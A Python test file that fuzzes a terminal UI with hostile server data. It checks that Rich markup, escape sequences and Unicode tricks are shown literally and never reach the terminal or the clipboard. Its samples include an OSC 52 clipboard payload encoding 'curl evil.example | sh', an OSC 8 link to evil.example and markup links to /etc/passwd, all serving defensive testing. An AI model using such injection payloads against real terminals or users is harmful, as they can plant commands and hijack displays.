"""Hostile server data into the running app: the real clients and monitor behind an ``httpx.MockTransport``
(or the simulator), and the UI on top.

Wrong types, missing and extra fields, unknown states, 100 KB and unicode strings (RTL, zero-width,
combining, wide), Rich markup (``[bold]``, ``[/``, ``[link=file:///etc/passwd]``, ``[@click=app.quit]``),
CSI and OSC sequences (OSC 52 included). For every screen the data reaches:

- the app keeps running and no worker died with an unhandled error;
- what a table cell or the detail pane holds is the *sanitized* server text, literally (markup shown as
  typed);
- what the terminal driver would write carries no control character or escape the server sent (see
  ``support.ui.screen_capture``), no hostile link and no clickable action; clicking ``[@click=…]`` text
  does nothing;
- an agent reply carrying OSC 52 never reaches the terminal nor the clipboard.
"""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from textual.widgets import Markdown, TextArea

from boxdeck.service.text.sanitize import sanitize
from boxdeck.tui.modals.errors import ErrorsModal
from boxdeck.tui.screens.activity import ActivityScreen
from boxdeck.tui.screens.agent_prompt import AgentPromptScreen
from boxdeck.tui.screens.devboxes import DevboxesScreen
from boxdeck.tui.screens.help import HelpScreen
from boxdeck.tui.screens.sandboxes import SandboxesScreen
from boxdeck.tui.widgets.box_table import BoxTable
from support.hostile_data import HOSTILE_STRINGS, ODD_STATES, hostile_text, json_values, small_text
from support.tui import SIZE, plain, until
from support.ui import (
    AppThread,
    MockServer,
    app_alive,
    assert_terminal_safe,
    failed_workers,
    foreign_controls,
    mock_app,
    screen_capture,
)

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"
MARKUP = (
    "[bold]",
    "[/",
    "[/]",
    "[link=file:///etc/passwd]x[/link]",
    "[@click=app.quit]quit[/]",
    "[@click=app.quit]",
)
UNICODE = (
    "\u202eevil\u202c.txt",  # RTL override
    "zero\u200bwidth\u200d",
    "e\u0301\u0301\u0301 combining",
    "宽字符测试🚀📦",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 family",
)
#: Every hostile string a name/branch/error may carry in the deterministic corpus (surrogates included).
CORPUS = tuple(dict.fromkeys((*HOSTILE_STRINGS, *MARKUP, *UNICODE, f"osc{OSC52}52")))
HUGE = "[bold]\x1b[31m宽" * 12_000  # ~100 KB of markup, CSI and wide characters
#: Unknown and odd states, minus the deleted ones (a deleted box leaves the table, as it should).
STATES = tuple(s for s in ODD_STATES if "delet" not in s.lower())


def expected_cell(value: Any) -> str:
    """What a literal table cell holds for a server value."""
    text = sanitize(str(value)) if value is not None else ""
    return text or "-"


def same_text(shown: str, expected: str) -> bool:
    """`shown` is `expected`, or a prefix of it cut with an ellipsis (a huge value may be shortened)."""
    return shown == expected or (shown.endswith("…") and expected.startswith(shown[:-1]) and len(shown) > 1)


def sandbox_record(i: int, text: str) -> dict[str, Any]:
    return {
        "id": f"sb-{i:03d}",
        "name": text,
        "state": STATES[i % len(STATES)],
        "provider": text,
        "branch": text,
        "repo_url": f"https://github.com/acme/{text}",
        "error_message": text,
        "created_at": "2026-03-02T09:00:00Z",
        "created_by": {"name": text, "email": 7},
        "services": [{"name": text, "url": text}],
        "unknown_extra": {"nested": [text, None, 1.5], f"k{OSC52}": text},
        f"field{OSC52}\x9b": text,
    }


def devbox_record(i: int, text: str) -> dict[str, Any]:
    return {
        "id": f"db-{i:03d}",
        "name": text,
        "state": ("provisioning", "ready", "failed", "exploded", text)[i % 5],
        "access_url": text,
        "created_at": "2026-03-02T09:00:00Z",
        "extra": text,
    }


#: Wrong shapes mixed into the lists: skipped or coerced, never a crash.
ODD_SANDBOXES: list[Any] = [
    {"id": "odd-1", "name": 12345, "state": ["active"], "created_at": "yesterday-ish"},
    {"id": "odd-2", "name": None, "state": None, "created_by": "not an object", "services": "nope"},
    {"id": "odd-3", "state": {"nested": "active"}, "branch": 3.5, "error_message": ["a", "b"]},
    {"id": "odd-huge", "name": HUGE, "state": "failed", "error_message": HUGE, "branch": HUGE},
    "a bare string",
    42,
    None,
    [1, 2, 3],
]
ODD_DEVBOXES: list[Any] = [
    {"id": "odd-d1", "name": {"first": "x"}, "state": 7},
    {"id": "odd-d2"},
    {"id": "odd-dhuge", "name": HUGE, "state": "failed", "access_url": HUGE},
    "string",
    None,
]


def hostile_server() -> MockServer:
    server = MockServer()
    server.empty_world()
    sandboxes = [sandbox_record(i, t) for i, t in enumerate(CORPUS)] + ODD_SANDBOXES
    devboxes = [devbox_record(i, t) for i, t in enumerate(CORPUS)] + ODD_DEVBOXES
    server.answer("GET", "/api/v0beta1/sandboxes", sandboxes)
    server.answer("GET", "/api/v1/devboxes", devboxes)
    steps = ["create_devbox", "inject_credentials", f"clone{OSC52}", "[bold]setup[/]"]
    server.answer(
        "GET",
        "/api/v1/devboxes/[^/]+/operations",
        [
            {"id": f"op{n}", "step": step, "status": ("success", "failed", "running", "??")[n],
             "message": CORPUS[(n * 7) % len(CORPUS)], "created_at": "2026-03-02T09:00:00Z"}
            for n, step in enumerate(steps)
        ] + [{"id": "bad", "step": None, "status": 5}, "junk"],
    )
    server.answer(
        "GET",
        "/api/v1/devboxes/[^/]+/repositories",
        [{"full_name": f"acme/{OSC52}[bold]", "clone_status": "failed", "clone_error": f"x{OSC52}[/",
          "ref": "\x1b[2Jmain", "target_path": "[@click=app.quit]/w[/]"}, {"full_name": None}, 3],
    )
    server.answer(
        "GET",
        "/api/v0beta1/sandboxes/[^/]+/sessions/latest",
        {"id": f"sess{OSC52}", "agent_name": "[bold]claude", "status": "\x9b31m", "metadata": {"k": OSC52}},
    )
    return server


def table_of(app: Any) -> BoxTable:
    return app.screen.query_one(BoxTable)


def check_table_literal(app: Any, raw_by_id: dict[str, Any] | None = None) -> int:
    """Every visible row's cells equal the sanitized server values; returns how many rows were checked."""
    screen = app.screen
    table = table_of(app)
    checked = 0
    for key in table.ordered_keys():
        box = screen.boxes[key]
        name = table.get_cell(key, "name").plain
        assert same_text(name, expected_cell(box.name)), (key, name[:200])
        if raw_by_id is not None and key in raw_by_id and isinstance(raw_by_id[key], str):
            assert same_text(name, expected_cell(raw_by_id[key])), (key, name[:200])
        state = table.get_cell(key, "state").plain
        assert sanitize(box.display_state) in state or state.endswith("unknown"), (key, state)
        for column in (c.key for c in table.columns):
            text = table.get_cell(key, column).plain
            assert text == sanitize(text), (key, column, text[:80])
        checked += 1
    return checked


def detail_text(app: Any) -> str:
    from boxdeck.tui.widgets.detail_pane import DetailPane

    return plain(app.screen.query_one(DetailPane).renderable, width=120)


async def settle(pilot: Any, app: Any) -> None:
    for _ in range(2):
        await pilot.pause()
    assert app_alive(app), "the app exited"
    assert not failed_workers(app), failed_workers(app)


async def test_hostile_corpus_shown_literally_on_every_screen(monkeypatch: pytest.MonkeyPatch) -> None:
    server = hostile_server()
    app = mock_app(server)
    copied: list[str] = []
    monkeypatch.setattr(app, "copy_to_clipboard", copied.append)
    raw_names = {f"amika:sb-{i:03d}": t or f"sb-{i:03d}" for i, t in enumerate(CORPUS)}
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: isinstance(app.screen, SandboxesScreen) and table_of(app).row_count > 5)
        await settle(pilot, app)
        # Screen 1: every row literal, and the rendered screen carries nothing a terminal would act on.
        assert check_table_literal(app, raw_names) >= len(CORPUS)
        assert_terminal_safe(screen_capture(app))
        # Wrong shapes were skipped or coerced: no crash, and each shown row is still literal.
        assert "amika:odd-huge" in table_of(app).ordered_keys()
        # The detail pane of each markup row shows the markup as typed.
        shown_in_detail = ("[/", "[link=file:///etc/passwd]x[/link]", "[@click=app.quit]quit[/]",
                           f"osc{OSC52}52")
        for i, text in enumerate(CORPUS):
            if text not in shown_in_detail:
                continue
            key = f"amika:sb-{i:03d}"
            table_of(app).select_key(key)
            await settle(pilot, app)
            shown = detail_text(app)
            assert sanitize(text) in shown, (text, shown[:300])
            assert "\x1b" not in shown and "\x07" not in shown and "Y3VybC" not in shown
            assert_terminal_safe(screen_capture(app))
        # The detail pane, opened with enter, and closed again.
        await pilot.press("enter")
        await settle(pilot, app)
        assert_terminal_safe(screen_capture(app))
        await pilot.press("escape")
        # Clicking the `[@click=app.quit]` text does nothing but move the cursor.
        table_of(app).select_key(f"amika:sb-{CORPUS.index('[@click=app.quit]'):03d}")
        await settle(pilot, app)
        capture = screen_capture(app)
        spot = capture.find("[@click=app.quit]")
        assert spot is not None, "the [@click=…] text is displayed"
        await pilot.click(offset=spot)
        await pilot.click(offset=(spot[0] + 3, spot[1]))
        await settle(pilot, app)

        # Screen 2: devboxes, steps and repositories.
        await pilot.press("2")
        await until(pilot, lambda: isinstance(app.screen, DevboxesScreen) and table_of(app).row_count > 5)
        await settle(pilot, app)
        assert check_table_literal(app) >= len(CORPUS)
        assert_terminal_safe(screen_capture(app))
        table_of(app).select_key("devbox:db-002")  # failed: banner, stepper and repositories
        await until(pilot, lambda: "[bold]setup[/]" in detail_text(app))
        await settle(pilot, app)
        shown = detail_text(app)
        assert "[@click=app.quit]/w[/]" in shown and "acme/[bold]" in shown and "Y3VybC" not in shown
        assert_terminal_safe(screen_capture(app))

        # The filter with markup typed into it: the title and the "no match" line stay literal.
        await pilot.press("slash")
        for key in "[/":
            await pilot.press(key)
        await settle(pilot, app)
        assert_terminal_safe(screen_capture(app))
        await pilot.press("escape")

        # A failing backend whose error body is hostile: the errors modal and the health bar.
        server.answer("GET", "/api/v0beta1/sandboxes", {"message": f"boom {OSC52}[bold]x[/] \x1b[2J"}, 500)
        server.answer("GET", "/api/v1/devboxes", raw=f"<h1>{OSC52}[/</h1>".encode(), status=502)
        await pilot.press("1")
        app.deck.poller.poll_now()
        monitor = app.deck.main.monitor
        await until(pilot, lambda: monitor.health(next(iter(monitor.backends))).status == "failing",
                    timeout=10)
        await settle(pilot, app)
        assert_terminal_safe(screen_capture(app))
        await pilot.press("e")
        await until(pilot, lambda: isinstance(app.screen, ErrorsModal))
        await settle(pilot, app)
        text = screen_capture(app).text
        assert "[bold]x[/]" in text or "[/" in text  # the server's words, literally
        assert_terminal_safe(screen_capture(app))
        await pilot.press("escape")
        await pilot.press("l")
        await until(pilot, lambda: isinstance(app.screen, ActivityScreen))
        await settle(pilot, app)
        assert_terminal_safe(screen_capture(app))
        await pilot.press("escape")
        await pilot.press("question_mark")
        await until(pilot, lambda: isinstance(app.screen, HelpScreen))
        assert_terminal_safe(screen_capture(app))
        await pilot.press("escape")
        await settle(pilot, app)
        assert copied == []  # nothing a server sent reached the clipboard
        assert app_alive(app)


async def _one_box_app(
    pilot_size: tuple[int, int], sandbox: dict[str, Any], devbox: dict[str, Any] | None = None
) -> tuple[MockServer, Any]:
    server = MockServer()
    server.empty_world()
    server.answer("GET", "/api/v0beta1/sandboxes", [sandbox])
    if devbox is not None:
        server.answer("GET", "/api/v1/devboxes", [devbox])
    return server, mock_app(server)


async def test_detail_pane_title_field_names_and_nested_keys_are_sanitized() -> None:
    """Three places of the detail pane show server text without `sanitize`: the border title (the box
    name), the labels of extra wire fields (their names come from the server) and the keys of nested
    objects (shown inline as key=value). All findings are collected, then asserted together."""
    name = f"web{OSC52}\x9b2J\u202e1"
    key = f"x{OSC52}\x1b[2J\x12"
    sandbox = {"id": "sb-1", "name": name, "state": "active", key: "value", f"empty{OSC52}": None,
               "labels": {key: "v"}}
    devbox = {"id": "db-1", "name": name, "state": "ready", key: "value"}
    _, app = await _one_box_app(SIZE, sandbox, devbox)
    problems: dict[str, str] = {}
    async with app.run_test(size=SIZE) as pilot:
        screens = (("1", SandboxesScreen, "amika:sb-1"), ("2", DevboxesScreen, "devbox:db-1"))
        for screen_key, kind, row in screens:
            await pilot.press(screen_key)
            await until(pilot, lambda k=kind: isinstance(app.screen, k) and table_of(app).row_count == 1)
            await settle(pilot, app)
            assert table_of(app).get_cell(row, "name").plain == sanitize(name)
            title = str(app.screen.query_one("#detail").border_title)
            if "\x1b" in title or "\x9b" in title or "\u202e" in title:
                problems[f"{kind.__name__} detail title"] = repr(title)
            shown = detail_text(app)
            if "\x1b" in shown or "\x12" in shown or "Y3VybC" in shown:
                problems[f"{kind.__name__} detail body"] = repr(shown[:400])
            leaks = foreign_controls(screen_capture(app))
            if leaks:
                problems[f"{kind.__name__} screen"] = repr(leaks[:3])
    assert not problems, "\n".join(f"{k}: {v}" for k, v in problems.items())


#: Wall time for one cursor key while a 100 KB box is on screen. A normal key takes well under 0.5 s even
#: on the loaded CI machine; with the detail pane rendering 300 KB of folded text it took 5–7 s.
KEY_BUDGET = 2.5


async def test_huge_values_keep_the_cursor_responsive() -> None:
    """A box whose name, branch and error are 100 KB each: the row and the detail pane still show it, and
    moving the cursor onto and off it stays interactive."""
    import time

    huge = {"id": "huge", "name": HUGE, "state": "failed", "error_message": HUGE, "branch": HUGE}
    server = MockServer()
    server.empty_world()
    server.answer("GET", "/api/v0beta1/sandboxes", [{"id": "a", "name": "a", "state": "active"}, huge,
                                                    {"id": "z", "name": "zz", "state": "active"}])
    app = mock_app(server)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: isinstance(app.screen, SandboxesScreen) and table_of(app).row_count == 3)
        table_of(app).select_key("amika:a")
        await settle(pilot, app)
        for key in ("up", "down", "up"):  # onto the huge row (sorted by name: [bold]…, a, zz), off, back
            started = time.monotonic()
            await pilot.press(key)
            await pilot.pause()
            took = time.monotonic() - started
            assert took < KEY_BUDGET, f"{key!r} took {took:.1f}s with a 100 KB box on screen"
        assert app.screen.selected_key == "amika:huge"
        assert "[bold]宽" in detail_text(app)
        assert_terminal_safe(screen_capture(app))
        assert app_alive(app)


# ------------------------------------------------------------------------------------------- hypothesis

SANDBOX_FIELDS = ("id", "name", "state", "error_message", "created_at", "provider", "branch", "repo_url",
                  "created_by", "services", "current_session_id")
DEVBOX_FIELDS = ("id", "name", "state", "created_at", "access_url")
DETAIL_FIELDS = ("id", "step", "status", "message", "full_name", "clone_status", "clone_error", "ref",
                 "target_path", "created_at", "agent_name", "metadata")


def record(fields: tuple[str, ...]) -> st.SearchStrategy[dict[str, Any]]:
    """Like ``hostile_data.record`` without its 100 KB strings (the corpus test covers those): generating and
    parsing megabytes per example would make each example cost seconds."""
    value = st.one_of(hostile_text, hostile_text, json_values, st.sampled_from(ODD_STATES))
    optional: dict[str, st.SearchStrategy[Any]] = {name: value for name in fields}
    optional["state"] = st.one_of(st.sampled_from(ODD_STATES), value)
    optional["created_by"] = st.one_of(json_values, st.fixed_dictionaries({}, optional={"name": value}))
    optional["metadata"] = st.dictionaries(st.one_of(small_text, st.sampled_from(HOSTILE_STRINGS)), value,
                                           max_size=3)
    extra = st.dictionaries(st.one_of(small_text, st.sampled_from(HOSTILE_STRINGS)), json_values, max_size=3)
    return st.tuples(st.fixed_dictionaries({}, optional=optional), extra).map(lambda t: {**t[1], **t[0]})


def _with_ids(prefix: str, docs: list[dict[str, Any]]) -> list[Any]:
    # Unique ids (the table is keyed by them); an odd few lose theirs, which the service must cope with.
    return [{**d, "id": f"{prefix}{n}"} if n % 4 else d for n, d in enumerate(docs)]


def _as_body(value: Any) -> bytes:
    return json.dumps(value).encode()


sandbox_bodies = st.one_of(
    st.lists(record(SANDBOX_FIELDS), max_size=6).map(lambda d: _as_body(_with_ids("s", d))),
    st.lists(record(SANDBOX_FIELDS), max_size=6).map(lambda d: _as_body(_with_ids("s", d))),
    st.lists(record(SANDBOX_FIELDS), max_size=6).map(lambda d: _as_body(_with_ids("s", d))),
    json_values.map(_as_body),
    st.sampled_from([b"", b"<html>502</html>", b"[" * 50_000, b"\xff\xfe"]),
)
devbox_bodies = st.one_of(
    st.lists(record(DEVBOX_FIELDS), max_size=5).map(lambda d: _as_body(_with_ids("d", d))),
    st.lists(record(DEVBOX_FIELDS), max_size=5).map(lambda d: _as_body(_with_ids("d", d))),
    json_values.map(_as_body),
)
detail_bodies = st.one_of(
    st.lists(record(DETAIL_FIELDS), max_size=4).map(_as_body),
    json_values.map(_as_body),
)
rounds = st.fixed_dictionaries(
    {
        "status": st.sampled_from([200, 200, 200, 200, 500, 404, 429]),
        "sandboxes": sandbox_bodies,
        "devboxes": devbox_bodies,
        "operations": detail_bodies,
        "repositories": detail_bodies,
        "latest": detail_bodies,
        "screen": st.sampled_from(["1", "2"]),
        "detail": st.booleans(),
    }
)

FUZZ = settings(
    max_examples=10,
    deadline=None,
    # No shrinking: each example drives the live app (~0.5 s), and a shrink would replay hundreds of them.
    phases=(Phase.explicit, Phase.reuse, Phase.generate),
    suppress_health_check=[
        HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.function_scoped_fixture,
    ],
)


@pytest.fixture(scope="module")
def fuzz_app() -> Any:
    server = MockServer()
    server.empty_world()
    thread = AppThread(mock_app(server), size=SIZE)
    thread.server = server  # type: ignore[attr-defined]
    yield thread
    thread.close()


def _route(server: MockServer, method: str, path: str, status: int, body: bytes) -> None:
    server.answer(method, path, raw=body, status=status)


@FUZZ
@given(answer=rounds)
def test_generated_bodies_never_crash_and_stay_literal(fuzz_app: AppThread, answer: dict[str, Any]) -> None:
    server: MockServer = fuzz_app.server  # type: ignore[attr-defined]
    server.routes.clear()
    server.empty_world()
    _route(server, "GET", "/api/v0beta1/sandboxes", answer["status"], answer["sandboxes"])
    _route(server, "GET", "/api/v1/devboxes", answer["status"], answer["devboxes"])
    _route(server, "GET", "/api/v1/devboxes/[^/]+/operations", 200, answer["operations"])
    _route(server, "GET", "/api/v1/devboxes/[^/]+/repositories", 200, answer["repositories"])
    _route(server, "GET", "/api/v0beta1/sandboxes/[^/]+/sessions/latest", 200, answer["latest"])

    async def drive(pilot: Any) -> None:
        app = pilot.app
        if app.screen.is_modal:
            await pilot.press("escape")
        before = server.count("GET", "/sandboxes"), server.count("GET", "/devboxes")
        app.deck.poller.poll_now()
        await until(
            pilot,
            lambda: (server.count("GET", "/sandboxes") > before[0]
                     and server.count("GET", "/devboxes") > before[1]),
            timeout=10,
        )
        await pilot.press(answer["screen"])
        await settle(pilot, app)
        screen = app.screen
        assert isinstance(screen, SandboxesScreen | DevboxesScreen)
        check_table_literal(app)
        table = table_of(app)
        if table.row_count:
            table.action_last()
            if answer["detail"]:
                await pilot.press("enter")
            await settle(pilot, app)
            shown = detail_text(app)
            assert "\x1b" not in shown and "\x9b" not in shown and "\x07" not in shown
            if answer["detail"]:
                await pilot.press("escape")
        assert_terminal_safe(screen_capture(app))
        await settle(pilot, app)

    fuzz_app.call(drive)


# ----------------------------------------------------------------------- through the simulator, end to end


async def test_simulator_hostile_error_and_agent_reply_osc52(make_app, world, monkeypatch):
    """A sandbox forced to `failed` with a hostile error message (control API), and an agent reply that
    quotes an OSC 52 sequence back (the simulator's agent echoes the prompt): both shown literally; neither
    the terminal nor the clipboard ever sees the sequence."""
    active = next(sb.name for sb in world.world.amika.sandboxes.values() if sb.state == "active" and sb.creds)
    victim = next(sb.name for sb in world.world.amika.sandboxes.values() if sb.name != active)
    error = f"disk full {OSC52} [bold]see[/] [link=file:///etc/passwd]log[/link] \x1b[2J\u202eevil"
    async with httpx.AsyncClient() as control:  # the simulator's control API, before the app starts
        response = await control.post(
            f"{world.base_url}/_sim/boxes/amika/{quote(victim, safe='')}/state",
            json={"state": "failed", "error_message": error},
        )
    assert response.status_code == 200, response.text
    app = make_app()
    copied: list[str] = []
    monkeypatch.setattr(app, "copy_to_clipboard", copied.append)
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: isinstance(app.screen, SandboxesScreen) and table_of(app).row_count > 0)
        key = next(k for k, b in app.screen.boxes.items() if b.name == victim)
        table_of(app).select_key(key)
        await until(pilot, lambda: "disk full" in detail_text(app))
        shown = detail_text(app)
        assert sanitize(error) in " ".join(shown.split()) or "[bold]see[/]" in shown
        assert "[link=file:///etc/passwd]log[/link]" in shown
        assert "\x1b" not in shown and "Y3VybC" not in shown and "\u202e" not in shown
        capture = screen_capture(app)
        assert_terminal_safe(capture)

        # The agent prompt: the reply quotes the prompt, OSC 52 and all.
        akey = next(k for k, b in app.screen.boxes.items() if b.name == active)
        table_of(app).select_key(akey)
        await settle(pilot, app)
        await pilot.press("a")
        await until(pilot, lambda: isinstance(app.screen, AgentPromptScreen))
        screen = app.screen
        prompt = f"copy this {OSC52} and [@click=app.quit]quit[/] \x1b]8;;https://evil.example\x07x\x1b]8;;\x07"
        screen.query_one("#prompt", TextArea).text = prompt
        await pilot.press("ctrl+s")
        conversations = screen.profile.conversations
        await until(
            pilot, lambda: conversations.history(active) and not conversations.history(active)[-1].in_flight
        )
        await until(pilot, lambda: bool(screen.query(Markdown)))
        await settle(pilot, app)
        turn = conversations.history(active)[-1]
        assert turn.reply is not None and OSC52 in turn.reply  # the hostile reply did arrive…
        capture = screen_capture(app)
        assert_terminal_safe(capture)  # …and nothing of it reaches the terminal
        assert "Y3VybC" not in capture.raw and "]52;" not in capture.raw
        assert "[@click=app.quit]quit[/]" in capture.text  # shown as typed, not actioned
        spot = capture.find("[@click=app.quit]")
        if spot is not None:
            await pilot.click(offset=spot)
            await settle(pilot, app)
        assert copied == [] and app_alive(app)
        await pilot.press("escape")
        await settle(pilot, app)


async def test_the_palette_shows_a_box_name_with_markup_literally() -> None:
    """"Go to sandbox NAME" puts a server's name into the command palette, which reads titles as markup."""
    from textual.command import CommandList, CommandPalette

    name = "[bold]web[/][@click=app.quit]x"
    _, app = await _one_box_app(SIZE, {"id": "sb-1", "name": name, "state": "active[/]"})
    async with app.run_test(size=SIZE) as pilot:
        await until(pilot, lambda: table_of(app).row_count == 1)
        await pilot.press("ctrl+p")
        await until(pilot, lambda: isinstance(app.screen, CommandPalette))
        await pilot.press(*"web")
        options = app.screen.query_one(CommandList)

        def prompts() -> list[str]:
            return [str(options.get_option_at_index(i).prompt) for i in range(options.option_count)]

        await until(pilot, lambda: any("Go to sandbox" in p for p in prompts()))
        shown = next(p for p in prompts() if "Go to sandbox" in p)
        assert f"Go to sandbox {name}" in shown and "active[/]" in shown
